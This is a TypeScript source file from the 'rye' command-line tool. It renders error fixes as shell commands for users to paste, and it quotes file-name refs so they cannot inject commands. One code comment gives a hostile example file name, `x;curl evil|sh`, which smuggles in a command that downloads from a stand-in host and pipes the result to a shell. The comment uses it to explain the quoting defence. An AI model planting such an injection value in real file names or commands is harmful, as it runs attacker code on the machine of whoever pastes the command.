/**
 * The `rye` command that carries out an error's `fix`: lower layers say what fixes a problem as
 * data, and the CLI shows its own users the command to type.
 */
import type { Fix } from '@ryeos/lillux';
import { isFix } from '@ryeos/lillux';

/** Characters a shell takes literally; anything else in a ref is quoted. */
const SHELL_SAFE = /^[A-Za-z0-9_./:@%+=,-]+$/;

/**
 * A ref comes from a file name, which a hostile repository chooses: quoted, a name such as
 * `x;curl evil|sh` is one argument to a person who pastes the command, not a second command.
 */
function shellWord(word: string): string {
  return SHELL_SAFE.test(word) ? word : `'${word.replaceAll("'", `'\\''`)}'`;
}

function spaceFlag(space: 'project' | 'user'): string {
  return space === 'user' ? ' --space user' : '';
}

export function fixCommand(fix: Fix): string {
  switch (fix.action) {
    case 'sign':
      return `rye sign ${fix.refs.map(shellWord).join(' ')}${spaceFlag(fix.space)}`;
    case 'copy_to_space':
      return `rye load ${shellWord(fix.ref)} --to ${fix.to}, then rye sign ${shellWord(fix.ref)}${spaceFlag(fix.to)}`;
    case 'generate_key':
      return fix.force ? 'rye keys generate --force' : 'rye keys generate (or rye init)';
    case 'trust_key':
      return `rye keys trust <public key file>${fix.space === 'project' ? ' --space project' : ''}`;
    case 'search':
      return `rye search ${fix.item_type} <query>`;
    case 'load':
      return `rye load ${shellWord(fix.ref)}`;
    case 'list_threads':
      return 'rye threads list';
    case 'install_package':
      return `npm install ${shellWord(fix.name)}`;
  }
}

/** One result object with its hint ending in the command of its fix (unchanged without one). */
function withCommand<T extends object>(result: T): T {
  const { fix, hint } = result as { fix?: unknown; hint?: unknown };
  if (!isFix(fix)) return result;
  const command = fixCommand(fix);
  return { ...result, hint: typeof hint === 'string' && hint ? `${hint} Run: ${command}` : command };
}

/**
 * A result as the CLI prints it: its own hint and each failed item's (a batch sign) name the
 * command. Only those places: a fix nested in a tool's output is that tool's data, not ours.
 */
export function withCliHints<T>(result: T): T {
  if (typeof result !== 'object' || result === null || Array.isArray(result)) return result;
  const rendered = withCommand(result);
  const failed = (rendered as { failed?: unknown }).failed;
  if (!Array.isArray(failed)) return rendered;
  return {
    ...rendered,
    failed: failed.map((item: unknown) =>
      typeof item === 'object' && item !== null ? withCommand(item) : item,
    ),
  };
}
